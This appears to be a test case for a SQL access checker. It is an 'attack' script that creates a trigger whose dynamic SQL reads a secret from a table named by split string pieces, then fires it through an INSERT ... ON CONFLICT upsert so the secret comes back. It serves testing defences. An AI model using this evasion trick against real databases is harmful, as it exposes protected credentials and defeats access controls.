-- Inserts a row that is there already, and a trigger of the update that comes of it tells.
-- wants: read
-- attack:
CREATE TABLE told (id int PRIMARY KEY, v text);
INSERT INTO told VALUES (1, 'a');
CREATE FUNCTION tells() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN
  EXECUTE 'SELECT secret FROM vlt_' || 'account LIMIT 1' INTO NEW.v;
  RETURN NEW;
END $$;
CREATE TRIGGER tells BEFORE UPDATE ON told FOR EACH ROW EXECUTE FUNCTION tells();
INSERT INTO told VALUES (1, 'b') ON CONFLICT (id) DO UPDATE SET v = 'c' RETURNING v;
SELECT v FROM told;
